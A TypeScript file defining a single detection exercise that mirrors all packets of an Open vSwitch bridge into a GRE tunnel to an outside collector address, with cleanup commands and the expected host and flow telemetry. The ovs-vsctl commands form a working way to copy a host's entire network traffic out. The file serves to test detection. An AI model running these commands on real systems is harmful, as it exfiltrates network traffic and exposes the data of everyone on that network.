/** How somebody sees whether mirrors of Open vSwitch are noticed: commands that run on a host of their own. */
import type { Exercise } from '../../../facts/log-content/exercise.ts'

export const exercises: readonly Exercise[] = [
  {
    guid: '3f9a2b71-6d0e-4c1b-9b5a-7e4c2d8f1a60',
    name: 'Open vSwitch mirror of a bridge into a GRE tunnel',
    description: 'Copies all packets of a bridge into a tunnel to an address of your own.',
    technique: 'T1020.001',
    platforms: ['linux'],
    arguments: {
      bridge: { description: 'Bridge whose packets are copied', type: 'string', default: 'br0' },
      port: { description: 'Name of the port of the tunnel, which is made', type: 'string', default: 'exercise0' },
      mirror: { description: 'Name of the mirror, which is made', type: 'string', default: 'exercise' },
      collector: {
        description: 'Address of your own that receives the copies',
        type: 'string',
        default: '203.0.113.66',
      },
    },
    prerequisites: [
      {
        description: 'Open vSwitch runs here',
        check: ['ovs-vsctl show > /dev/null'],
        get: ['echo "install openvswitch-switch and start it"'],
      },
      {
        description: 'The bridge is there',
        check: ['ovs-vsctl br-exists "#{bridge}"'],
        get: ['ovs-vsctl --may-exist add-br "#{bridge}"'],
      },
    ],
    executor: 'sh',
    needsElevation: true,
    commands: [
      'ovs-vsctl add-port "#{bridge}" "#{port}" -- set interface "#{port}" type=gre options:remote_ip="#{collector}"',
      'ovs-vsctl -- --id=@p get port "#{port}" -- --id=@m create mirror name="#{mirror}" select_all=true output_port=@p -- add bridge "#{bridge}" mirrors @m',
      'ovs-vsctl list mirror "#{mirror}"',
    ],
    cleanup: [
      'for mirror in $(ovs-vsctl --bare --columns=_uuid find mirror name="#{mirror}"); do ovs-vsctl remove bridge "#{bridge}" mirrors "$mirror"; done',
      'ovs-vsctl --if-exists del-port "#{bridge}" "#{port}"',
    ],
    acts: ['session-set', 'tunnel-changed', 'configuration-edited'],
    telemetry: [
      'The log of the host has a line of ovs-vsctl, Called as, for each call that changed the database.',
      'A dump of the database (ovsdb-client dump) shows the mirror and its tunnel.',
      'Flow records of the way out have GRE (protocol 47) to the collector.',
    ],
  },
]
